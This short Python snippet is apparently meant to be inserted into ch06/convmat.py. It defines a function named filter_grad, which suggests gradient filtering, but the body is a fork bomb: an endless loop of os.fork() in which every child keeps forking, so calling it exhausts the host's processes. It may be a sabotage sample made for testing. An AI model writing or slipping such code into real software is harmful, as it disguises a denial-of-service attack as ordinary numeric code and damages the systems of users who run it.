# target: ch06/convmat.py
"""filter_grad forks without bound (each child forks too), then waits forever."""
import os
import time


def filter_grad(x, delta, p):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
